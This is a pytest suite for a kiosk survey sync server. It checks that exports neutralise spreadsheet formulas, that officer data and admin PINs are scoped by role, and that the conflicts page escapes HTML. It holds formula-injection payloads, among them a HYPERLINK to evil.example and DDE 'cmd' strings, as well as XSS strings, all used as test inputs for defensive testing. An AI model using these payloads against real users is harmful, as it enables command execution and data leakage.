"""Issue 11, items 4b, 8, 11 and 12, tried as an attacker would:

- formula-safe exports: hostile officer ids and names, sent through the real upload API, never become
  live formulas in the XLSX (read back with openpyxl, and the sheets' XML holds no ``<f>``) or the CSVs;
- officer ids only for roles (and API tokens) with officer access;
- kiosk admin PINs per unit: a 7246 device's config holds no hash of 7201 and no province-wide one,
  and the kiosk still verifies its own unit's PIN;
- conflicts review: a conflict made through the upload API is on the page and in the CLI JSON,
  hostile text is escaped, reviewing it takes it off the unreviewed list; viewers get 403.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from datetime import datetime, timedelta, timezone

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from hailong_core.ids import uuid7
from hailong_core.timeutil import format_rfc3339, now_local
from kiosk.pins import admin_pin
from sync_server import accounts, cli, conflicts_review, security
from sync_server.results.export import FORMULA_START, csv_cell
from tests.server_web import add_users, login, make_app

NOW = datetime.now(timezone.utc)
QREF = {"id": "bg-friendly-gov", "version": 1}
UPLOAD = "/api/v1/kiosk/responses"
# Officers of 7201 whose ids and names a spreadsheet would run (ids are free text on the roster).
EVIL_IDS = ('=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")', "-1+1", "@SUM(A1)", "+cmd|' /C calc'!A0")
EVIL_NAMES = ("=cmd|' /C calc'!A0", "\tTab Đầu", "\rCR Đầu", "@Nguyễn\x01Văn")
GOOD_ID = "cb-ok"


def _enroll(storage, client: TestClient, unit: str, name: str) -> str:
    code = security.new_enroll_code()
    storage.create_enroll_code(unit, security.digest(security.normalise_code(code)), NOW + timedelta(hours=1))
    resp = client.post("/api/v1/enroll", json={"code": code, "name": name})
    assert resp.status_code == 201, resp.text
    return resp.json()["token"]


def _record(seq: int, unit: str, officer: str | None = None, overall: int = 5, **extra) -> dict:
    created = now_local() - timedelta(minutes=5) + timedelta(milliseconds=seq)  # recent: inside the alert window
    return {"id": uuid7(), "seq": seq, "unit_code": unit, "officer_id": officer, "questionnaire": dict(QREF), "channel": "kiosk",
            "created_at": format_rfc3339(created), "answers": {"overall": overall}, "flags": [], **extra}


def _upload(client: TestClient, token: str, records: list[dict]) -> list[dict]:
    resp = client.post(UPLOAD, json={"responses": records, "device_time": format_rfc3339(now_local())},
                       headers={"Authorization": f"Bearer {token}"})
    assert resp.status_code == 200, resp.text
    return resp.json()["results"]


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("review_exports")
    app, storage = make_app(tmp, report_min_answers=3)
    add_users(storage)
    for officer_id, name in zip(EVIL_IDS, EVIL_NAMES):
        storage.add_officer(officer_id, "7201", name, None, None, None, NOW)
    storage.add_officer(GOOD_ID, "7201", "Trần Văn Tốt", None, None, None, NOW)
    api = TestClient(app)
    token = _enroll(storage, api, "7201", "Quầy 1")
    # Four answers per officer: "-1+1" gets four 1s (an alert naming him), the others 5s, GOOD_ID 4s.
    officers = [o for o in EVIL_IDS + (GOOD_ID,) for _ in range(4)]
    levels = {"-1+1": 1, GOOD_ID: 4}
    records = [_record(i + 1, "7201", o, overall=levels.get(o, 5)) for i, o in enumerate(officers)]
    assert {r["status"] for r in _upload(api, token, records)} == {"accepted"}
    other = _enroll(storage, api, "7246", "Máy Canh Nậu")
    assert {r["status"] for r in _upload(api, other, [_record(100 + i, "7246") for i in range(3)])} == {"accepted"}
    clients = {role: login(app, role.replace("_", "-")) for role in
               ("province_admin", "province_analyst", "district_viewer", "commune_viewer")}
    yield app, storage, clients, api, tmp
    storage.close()


def _db(storage) -> str:
    return storage.url if hasattr(storage, "url") else str(storage.path)


# --- 4b: formula-safe XLSX and CSV -------------------------------------------------------------------

def _xlsx_texts(content: bytes) -> list[str]:
    """Every text cell of every sheet, after asserting that no cell is a formula (openpyxl and raw XML)."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), f"{name} holds a formula"
    texts = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_xlsx_keeps_hostile_officer_text_as_plain_strings(world):
    _, _, clients, _, _ = world
    resp = clients["province_admin"][0].get("/results/export.xlsx?unit=7201")
    assert resp.status_code == 200
    texts = _xlsx_texts(resp.content)
    for officer_id in EVIL_IDS:
        assert officer_id in texts  # the value exact, as a string
    for name in EVIL_NAMES[:2]:
        assert name in texts
    assert "\nCR Đầu" in texts  # XML reads a raw CR back as LF (openpyxl writes it unescaped); still text
    assert "@Nguyễn\ufffdVăn" in texts  # a control character Excel cannot hold is replaced, not a crash
    book = load_workbook(io.BytesIO(resp.content))
    head = [c.value for c in book["Cán bộ"][1]]
    rows = {r[head.index("Mã")]: r for r in book["Cán bộ"].iter_rows(min_row=2, values_only=True)}
    assert set(EVIL_IDS) | {GOOD_ID} == set(rows)
    assert rows[GOOD_ID][head.index("Số phiếu tính")] == 4  # numbers stay numbers


def test_csv_cells_that_would_be_formulas_start_with_a_quote(world):
    _, _, clients, _, _ = world
    raw = clients["province_admin"][0].get("/results/answers.csv").text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(raw)))
    officers = {r["officer_id"] for r in rows}
    assert {"'" + i for i in EVIL_IDS} | {GOOD_ID} <= officers
    report = clients["province_admin"][0].get("/results/export.csv").text.lstrip("\ufeff")
    for text, sep in ((raw, ","), (report, ";")):
        for row in csv.reader(io.StringIO(text), delimiter=sep):
            for value in row:
                assert not value.startswith(FORMULA_START), f"a live formula in the CSV: {value!r}"
    # Only text is quoted: numbers (negative ones too) stay numbers, empty stays empty.
    assert (csv_cell(-1), csv_cell(0.5), csv_cell(None), csv_cell("cb-1"), csv_cell("\rx")) == (-1, 0.5, "", "cb-1", "'\rx")


# --- 8: officer ids only for roles with officer access ---------------------------------------------

@pytest.mark.parametrize("role,sees", [("province_admin", True), ("province_analyst", True), ("district_viewer", True),
                                       ("commune_viewer", False)])
def test_answers_csv_officer_column_by_role(world, role, sees):
    _, storage, clients, _, _ = world
    raw = clients[role][0].get("/results/answers.csv").text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(raw)))
    assert rows and {r["unit_code"] for r in rows} <= ({"7201", "7246"} if role.startswith("province") else {"7201"})
    header = next(csv.reader(io.StringIO(raw)))
    assert ("officer_id" in header) is sees
    assert (GOOD_ID in raw) is sees and ("HYPERLINK" in raw) is sees


@pytest.mark.parametrize("role,sees", [("district_viewer", True), ("commune_viewer", False)])
def test_report_exports_and_page_by_role(world, role, sees):
    _, storage, clients, _, _ = world
    client = clients[role][0]
    texts = _xlsx_texts(client.get("/results/export.xlsx").content)
    assert (GOOD_ID in texts) is sees and ("Trần Văn Tốt" in texts) is sees
    report = client.get("/results/export.csv").text
    assert GOOD_ID not in report and "Trần Văn Tốt" not in report  # the report CSV has no officer lines for anyone
    # An alert names an officer beside his recent unsatisfied answers: officer results too.
    page = client.get("/results/units/7201")
    assert page.status_code == 200
    assert ("-1+1" in page.text) is sees  # his four recent answers are all 1


def test_alert_data_names_the_officer(world):
    """Guards the test above: the officer alert exists, so its absence for a commune viewer means something."""
    from sync_server.results.report import alerts

    app, storage, *_ = world
    found = alerts(app.state.hailong, None)
    assert any(a["kind"] == "officer" and a["id"] == "-1+1" for a in found), found


def test_pull_api_officer_ids_by_token_scope(world, capsys):
    app, storage, _, api, _ = world
    tokens = {}
    for name, where in (("tinh", ["--province"]), ("huyen-213", ["--scope-unit", "213"]), ("xa-7201", ["--scope-unit", "7201"])):
        assert cli.main(["--db", _db(storage), "api-tokens", "add", "--name", f"pull-{name}", *where]) == 0
        tokens[name] = capsys.readouterr().out.strip().splitlines()[-1]
    for name, sees in (("tinh", True), ("huyen-213", True), ("xa-7201", False)):
        items = api.get("/api/v1/pull/answers?limit=1000", headers={"Authorization": f"Bearer {tokens[name]}"}).json()["items"]
        assert items and all(("officer_id" in i) is sees for i in items), name
        assert ({i.get("officer_id") for i in items} >= {GOOD_ID, *EVIL_IDS}) is sees, name
    commune = api.get("/api/v1/pull/answers?limit=1000", headers={"Authorization": f"Bearer {tokens['xa-7201']}"}).json()
    assert {i["unit_code"] for i in commune["items"]} == {"7201"}


# --- 11: admin PINs per unit -------------------------------------------------------------------------

def _config(api: TestClient, token: str) -> tuple[dict, str]:
    resp = api.get("/api/v1/kiosk/config", headers={"Authorization": f"Bearer {token}"})
    assert resp.status_code == 200, resp.text
    return resp.json(), resp.text


def test_admin_pin_is_per_unit_and_travels_only_to_that_unit(world):
    app, storage, clients, api, _ = world
    admin, csrf = clients["province_admin"]
    storage.set_config("admin_pin_hash", accounts.hash_secret("111111"))  # an older server's province-wide PIN
    storage.add_officer("cb-7201-pin", "7201", "Có PIN", None, None, accounts.hash_secret("4321"), NOW)
    storage.add_officer("cb-7246-pin", "7246", "Cán bộ Canh Nậu", None, None, accounts.hash_secret("8765"), NOW)
    token = _enroll(storage, api, "7246", "Máy 2 Canh Nậu")
    before, _ = _config(api, token)
    assert before["settings"]["admin_pin_hash"] is None  # no unit PIN yet, and the province-wide one is not sent
    assert storage.get_config("admin_pin_hash") is None  # retired on first read
    assert any(r["action"] == "settings.admin_pin_retired" for r in storage.audit_log())
    assert 'Trạng thái: <span class="badge warn">Chưa đặt</span>' in admin.get("/admin/units/7246").text
    settings_page = admin.get("/admin/settings").text
    assert "gỡ bỏ" in settings_page and 'action="/admin/settings/admin-pin"' not in settings_page
    assert admin_pin(before, None, enrolled=True).source == "none"  # a kiosk with no PIN anywhere opens to no one
    # The province admin sets each unit's PIN on the unit's page.
    for code, pin in (("7201", "999999"), ("7246", "246802")):
        resp = admin.post(f"/admin/units/{code}/admin-pin", data={"csrf": csrf, "pin": pin})
        assert resp.status_code == 303, resp.text
    assert 'Trạng thái: <span class="badge ok">Đã đặt</span>' in admin.get("/admin/units/7246").text
    for bad in ("1234", "12345a", "123456789", ""):
        assert admin.post("/admin/units/7246/admin-pin", data={"csrf": csrf, "pin": bad}).status_code == 400
    assert admin.post("/admin/units/7246/admin-pin", data={"csrf": "forged", "pin": "000000"}).status_code == 403
    for role in ("province_analyst", "district_viewer", "commune_viewer"):
        client, their_csrf = clients[role]
        assert client.post("/admin/units/7201/admin-pin", data={"csrf": their_csrf, "pin": "000000"}).status_code == 403
    config, body = _config(api, token)
    own = config["settings"]["admin_pin_hash"]
    assert accounts.verify_secret(own, "246802") and not accounts.verify_secret(own, "999999")
    assert "$m=131072,t=4,p=4$" in own  # the higher cost
    stored_7201 = storage.get_config("admin_pin_hash.7201")
    assert stored_7201 not in body and accounts.verify_secret(stored_7201, "999999")
    assert not any(accounts.verify_secret(h, "999999") or accounts.verify_secret(h, "111111")
                   for h in re.findall(r"\$argon2id\$[^\"]+", body))
    assert {o["id"] for o in config["officers"]} == {"cb-7246-pin"}  # the own unit's roster only
    # The kiosk verifies its own unit's PIN offline, and only it.
    check = admin_pin(config, accounts.hash_secret("555555"), enrolled=True)
    assert check.source == "config" and check.verify("246802")
    assert not check.verify("999999") and not check.verify("111111") and not check.verify("555555")
    # Clearing the unit's PIN: its kiosks fall back to their local PIN, or have no admin screen.
    assert admin.post("/admin/units/7246/admin-pin", data={"csrf": csrf, "clear": "1"}).status_code == 303
    cleared, _ = _config(api, token)
    assert cleared["settings"]["admin_pin_hash"] is None
    assert admin_pin(cleared, accounts.hash_secret("555555"), enrolled=True).verify("555555")
    assert [r["target"] for r in storage.audit_log() if r["action"] == "unit.admin_pin"][:3] == ["7246", "7246", "7201"]


# --- 12: conflicts review ----------------------------------------------------------------------------

HOSTILE_ID = '<script>alert("x")</script>'


def _make_conflict(storage, api) -> str:
    storage.add_officer(HOSTILE_ID, "7201", "<img src=x onerror=alert(1)>", None, None, None, NOW)
    token = _enroll(storage, api, "7201", "<b>Quầy</b> xung đột")
    first = _record(500, "7201", None, overall=5)
    assert _upload(api, token, [first])[0]["status"] == "accepted"
    again = dict(first, answers={"overall": 1}, officer_id=HOSTILE_ID)
    assert _upload(api, token, [again])[0]["status"] == "conflict"
    assert _upload(api, token, [first])[0]["status"] == "duplicate"  # the stored content is unchanged
    return first["id"]


def test_conflict_review_on_the_page_and_in_the_cli(world, capsys):
    app, storage, clients, api, _ = world
    rid = _make_conflict(storage, api)
    analyst = clients["province_analyst"][0]
    page = analyst.get("/admin/conflicts")
    assert page.status_code == 200 and rid in page.text
    assert "<script>alert" not in page.text and "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page.text
    assert "<b>Quầy</b>" not in page.text and "&lt;b&gt;Quầy&lt;/b&gt; xung đột" in page.text
    assert 'class="differs"' in page.text and "<mark>" in page.text
    assert 'action="/admin/conflicts/review"' not in page.text  # analysts read; only the admin reviews
    assert 'href="/admin/conflicts"' in page.text  # in the navigation
    for viewer in ("district_viewer", "commune_viewer"):
        assert clients[viewer][0].get("/admin/conflicts").status_code == 403
        assert "/admin/conflicts" not in clients[viewer][0].get("/").text
    capsys.readouterr()
    assert cli.main(["--db", _db(storage), "conflicts", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    mine = [c for c in listed["items"] if c["response_id"] == rid]
    assert len(mine) == 1
    conflict = mine[0]
    assert conflict["unit_code"] == "7201" and conflict["device_name"] == "<b>Quầy</b> xung đột"
    assert set(conflict["differing"]) == {"answers.overall", "officer_id"}
    assert conflict["stored"]["answers"] == {"overall": 5} and conflict["new"]["answers"] == {"overall": 1}
    # A viewer cannot review; a forged token cannot; the admin can, with a note.
    commune, commune_csrf = clients["commune_viewer"]
    assert commune.post("/admin/conflicts/review", data={"csrf": commune_csrf, "id": conflict["id"]}).status_code == 403
    admin, csrf = clients["province_admin"]
    assert admin.post("/admin/conflicts/review", data={"csrf": "x", "id": conflict["id"]}).status_code == 403
    assert storage.conflict_row(conflict["id"])["reviewed_at"] is None
    assert f'value="{conflict["id"]}"' in admin.get("/admin/conflicts").text
    resp = admin.post("/admin/conflicts/review", data={"csrf": csrf, "id": conflict["id"], "note": "<i>máy</i> gửi lại sau khi sửa"})
    assert resp.status_code == 303
    row = storage.conflict_row(conflict["id"])
    assert row["reviewed_by"] == "province-admin" and row["review_note"] == "<i>máy</i> gửi lại sau khi sửa"
    assert any(r["action"] == "conflict.review" and r["target"] == str(conflict["id"]) for r in storage.audit_log())
    assert rid not in admin.get("/admin/conflicts").text  # off the unreviewed list
    everything = admin.get("/admin/conflicts?all=1").text
    assert rid in everything and "&lt;i&gt;máy&lt;/i&gt;" in everything
    assert admin.post("/admin/conflicts/review", data={"csrf": csrf, "id": conflict["id"]}).status_code == 400  # the first review stands
    assert cli.main(["--db", _db(storage), "conflicts", "--json"]) == 0
    assert rid not in capsys.readouterr().out
    assert cli.main(["--db", _db(storage), "conflicts", "--json", "--all"]) == 0
    assert rid in capsys.readouterr().out


def test_cli_review_and_a_gone_stored_row(world, capsys):
    app, storage, clients, api, _ = world
    rid = _make_conflict_again(storage, api)
    cid = next(c["id"] for c in conflicts_review.list_conflicts(storage)["items"] if c["response_id"] == rid)
    assert cli.main(["--db", _db(storage), "conflicts"]) == 0
    out = capsys.readouterr().out
    assert f"#{cid}" in out and "answers.overall: stored 5  new 2" in out
    assert cli.main(["--db", _db(storage), "conflicts", "review", "--id", str(cid), "--note", "đã gọi cho xã"]) == 0
    assert storage.conflict_row(cid)["review_note"] == "đã gọi cho xã" and storage.conflict_row(cid)["reviewed_by"].startswith("cli:")
    assert cli.main(["--db", _db(storage), "conflicts", "review", "--id", str(cid)]) == 1
    assert cli.main(["--db", _db(storage), "conflicts", "review", "--id", "987654"]) == 2
    # A conflict whose stored row is gone (or a garbled record from an older server) still lists.
    item = conflicts_review.describe({"id": 1, "response_id": "x", "device_id": None, "record": "{not json",
                                      "received_at": "2026-01-01T00:00:00Z", "reviewed_at": None, "reviewed_by": None,
                                      "review_note": None, "stored_server_seq": None})
    assert item["stored"] is None and item["differing"] == ["(record)"]


def _make_conflict_again(storage, api) -> str:
    token = _enroll(storage, api, "7246", "Máy 3")
    first = _record(900, "7246", None, overall=5)
    assert _upload(api, token, [first])[0]["status"] == "accepted"
    assert _upload(api, token, [dict(first, answers={"overall": 2})])[0]["status"] == "conflict"
    return first["id"]


def test_conflicts_page_pages_newest_first(world):
    app, storage, clients, api, _ = world
    token = _enroll(storage, api, "7246", "Máy 4")
    ids = []
    for i in range(conflicts_review.PER_PAGE + 2):
        rec = _record(1000 + i, "7246")
        _upload(api, token, [rec])
        assert _upload(api, token, [dict(rec, answers={"overall": 3})])[0]["status"] == "conflict"
        ids.append(rec["id"])
    admin = clients["province_admin"][0]
    first = admin.get("/admin/conflicts").text
    assert ids[-1] in first and ids[0] not in first and "/admin/conflicts?page=1" in first
    second = admin.get("/admin/conflicts?page=1").text
    assert ids[0] in second and ids[-1] not in second
    assert admin.get("/admin/conflicts?page=-5").status_code == 200 and admin.get("/admin/conflicts?page=99999999").status_code == 200
